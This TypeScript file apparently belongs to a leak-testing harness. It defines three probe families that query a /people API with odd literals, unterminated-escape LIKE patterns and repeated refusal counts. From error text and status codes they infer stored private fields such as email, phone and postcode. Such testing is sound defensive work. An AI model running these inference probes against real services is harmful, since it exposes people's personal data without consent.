// Families that provoke errors, and read them: their words, their status, how many there are.
import { type Attacker, type Guesses, mapCalls, type Target, theOne } from '../attacker.ts'
import type { Family } from '../family.ts'
import type { Bit } from '../people.ts'

/** Status and words of a refusal, without what is its own in each. */
const verdict = (status: number, text: string): string => `${status} ${text.replaceAll(/"instance":"[^"]*"/g, '')}`

/** Literals that no type takes, or just not any more. */
const odd = ['999999999999', 'NaN', '-Infinity', '4714-11-24 BC', '2026-02-30', '1e400', '%00', '𝟙', "'"]

async function texts(attacker: Attacker, paths: readonly string[]): Promise<readonly string[]> {
  const out: string[] = []
  for (const path of paths) {
    const { status, text } = await attacker.ask(path)
    out.push(verdict(status, text))
  }
  return out
}

/**
 * The beginning of a candidate as a pattern that ends in the middle of an escape: it fails only where it gets that far. The
 * first few executions of a statement fail for everybody, as the planner tries the pattern on its statistics.
 */
function openPattern(target: Target, side: 0 | 1): string {
  const [one, other] = [target.candidates[side] ?? '', target.candidates[1 - side] ?? '']
  const differs = [...one].findIndex((letter, i) => letter !== other[i])
  return encodeURIComponent(`${one.slice(0, differs + 1)}\\`)
}

async function byEscape(attacker: Attacker, target: Target): Promise<readonly [string, string]> {
  const ask = (side: 0 | 1) => `/people?fields=id&id=eq.${target.id}&${target.column}=like.${openPattern(target, side)}`
  const [first = '', second = ''] = await texts(attacker, [ask(0), ask(1)])
  return [first.slice(0, 3), second.slice(0, 3)]
}

const patterned = ['postcode', 'website', 'email', 'phone'] as const

export const failureFamilies: readonly Family[] = [
  {
    name: 'words of errors, by odd literals',
    caller: 'ana',
    columns: ['website', 'phone', 'postcode'],
    weakness: 'stored text is cast, and messages of the database pass',
    guess: (attacker, targets) =>
      mapCalls(targets, async (target) => {
        const { id, column, candidates } = target
        const literal = odd[id % odd.length] ?? ''
        const said = await texts(attacker, [
          `/people?fields=id&id=eq.${id}&${column}=eq.${literal}`,
          `/people?fields=id&id=eq.${id}&birth_date=gt.${literal}`,
          `/people/${id}?fields=${column}`,
        ])
        const held = candidates.map((candidate) => said.some((text) => candidate !== null && text.includes(candidate)))
        return theOne(held[0] ?? false, held[1] ?? false)
      }),
  },
  {
    name: 'patterns that end in an escape',
    caller: 'ana',
    columns: patterned,
    weakness: 'patterns are not validated, and meet stored values',
    guess: (attacker, targets) =>
      mapCalls(targets, async (target): Promise<Bit | null> => {
        const [first, second] = await byEscape(attacker, target)
        return theOne(first !== '200', second !== '200')
      }),
  },
  {
    name: 'how many of some calls are refused',
    caller: 'ana',
    columns: patterned,
    weakness: 'patterns are not validated, and meet stored values',
    share: 0.25,
    guess: async (attacker, targets): Promise<Guesses> => {
      const refused = await mapCalls(targets, async (target) => {
        const sides: [number, number] = [0, 0]
        for (let time = 0; time < 3; time++) {
          const seen = await byEscape(attacker, target)
          for (const side of [0, 1] as const) if (/^[45]/.test(seen[side])) sides[side]++
        }
        return sides
      })
      return refused.map(([first, second]) => theOne(first > second, second > first))
    },
  },
]
